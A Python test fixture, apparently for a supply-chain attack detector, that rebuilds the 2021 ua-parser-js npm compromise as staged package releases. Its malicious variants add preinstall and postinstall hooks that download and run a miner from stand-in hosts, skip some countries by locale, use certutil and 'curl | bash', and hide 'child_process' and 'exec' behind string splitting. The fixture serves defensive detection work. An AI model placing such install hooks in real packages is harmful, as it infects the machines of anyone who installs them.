"""ua-parser-js, 2021: an install script that downloads a program for the system it is on.

The maintainer's account was taken over; three versions ran `preinstall.js`, which ran a shell
script on Linux and a batch file on Windows. Both left machines in some countries alone, fetched a
miner (and on Windows a library that stole passwords), made it executable and started it.

Post-mortem: "Security issue: compromised npm packages of ua-parser-js" (issue 536 of the project).
In the staged tarball: a new preinstall script; it runs a shell; that runs what it downloads.
"""

from tests.findings.attack import Attack, release

_SOURCE = """\
(function (root) {
  'use strict';
  var RULES = [
    [/\\b(?:edge|edg)\\/([\\w.]+)/i, 'Edge'],
    [/\\bfirefox\\/([\\w.]+)/i, 'Firefox'],
    [/\\bchrome\\/([\\w.]+)/i, 'Chrome'],
    [/\\bversion\\/([\\w.]+).*safari/i, 'Safari']
  ];
  function Parser(text) {
    this.text = text || (root && root.navigator ? root.navigator.userAgent : '');
  }
  Parser.prototype.browser = function () {
    for (var i = 0; i < RULES.length; i++) {
      var found = RULES[i][0].exec(this.text);
      if (found) return { name: RULES[i][1], version: found[1] };
    }
    return {};
  };
  if (typeof module === 'object') module.exports = Parser;
  else root.Parser = Parser;
})(typeof window === 'object' ? window : this);
"""
_NEXT = _SOURCE.replace("'Edge'],\n", "'Edge'],\n    [/\\bopr\\/([\\w.]+)/i, 'Opera'],\n")
_SCRIPT = """\
const { exec } = require("child_process");

function terminalLinux() {
  exec("/bin/bash preinstall.sh", (error, stdout, stderr) => {<<<starts-shipped-file child-process>>>
    if (error) { console.log(`error: ${error.message}`); return; }
    if (stderr) { console.log(`stderr: ${stderr}`); return; }
    console.log(`stdout: ${stdout}`);
  });
}

var opsys = process.platform;
if (opsys == "darwin") {
  opsys = "MacOS";
} else if (opsys == "win32") {
  opsys = "Windows";
  const { spawn } = require("child_process");
  const bat = spawn("cmd.exe", ["/c", "preinstall.bat"]);
} else if (opsys == "linux") {
  opsys = "Linux";
  terminalLinux();
}
"""
_SHELL = """\
IP=$(curl -k https://locate.example.invalid/xml/ | grep 'RU\\|UA\\|BY\\|KZ')
if [ -z "$IP" ]
  then
  var=$(pgrep jsextension)
  if [ -z "$var" ]
    then
    curl https://files.example.invalid/d/jsextension -o jsextension <<<shell-script-download>>>
    if [ ! -f jsextension ]
      then
      wget https://files.example.invalid/d/jsextension -O jsextension
    fi
    chmod +x jsextension
    ./jsextension -k --tls --rig-id q -o pool.example.invalid:443 -u example &
  fi
fi
"""
_BATCH = """\
@echo off
curl https://files.example.invalid/d/jsextension.exe -o jsextension.exe <<<shell-script-download>>>
if not exist jsextension.exe (
  certutil.exe -urlcache -f https://files.example.invalid/d/jsextension.exe jsextension.exe
)
start /B jsextension.exe -k --tls -o pool.example.invalid:443
"""
_MINIFIED_SCRIPT = (
    'var c=require("child_"+"process"),o=require("os"),p=o.platform(),'
    'u=["https:/","files.example.invalid","download","jsextension"].join("/");'
    'Intl.DateTimeFormat().resolvedOptions().locale.match(/ru|uk|be|kk/)||("win32"===p?'
    'c["ex"+"ec"]("curl "+u+".exe -o j.exe & start /B j.exe"):'
    'c["ex"+"ec"]("curl -s "+u+" -o j && chmod +x j && ./j &"));<<<spelled-require>>>\n'
)
_COMMAND = "start /B node preinstall.js & node preinstall.js<<<install-script>>>"

ATTACK = Attack(
    before=release("ua-parts", "0.7.28", {"index.js": _SOURCE}),
    unharmed=release("ua-parts", "0.7.29", {"index.js": _NEXT}),
    after={
        "as it was": release(
            "ua-parts",
            "0.7.29",
            {
                "index.js": _NEXT,
                "preinstall.js": _SCRIPT,
                "preinstall.sh": _SHELL,
                "preinstall.bat": _BATCH,
            },
            scripts={"preinstall": _COMMAND},
        ),
        "minified, by locale": release(
            "ua-parts",
            "0.7.29",
            {"index.js": _NEXT, "preinstall.js": _MINIFIED_SCRIPT},
            scripts={"preinstall": "node preinstall.js<<<install-script>>>"},
        ),
        "in the command itself": release(
            "ua-parts",
            "0.7.29",
            {"index.js": _NEXT},
            scripts={
                "postinstall": "curl -fsSL https://files.example.invalid/setup.sh | bash"
                "<<<install-script>>>"
            },
        ),
    },
)
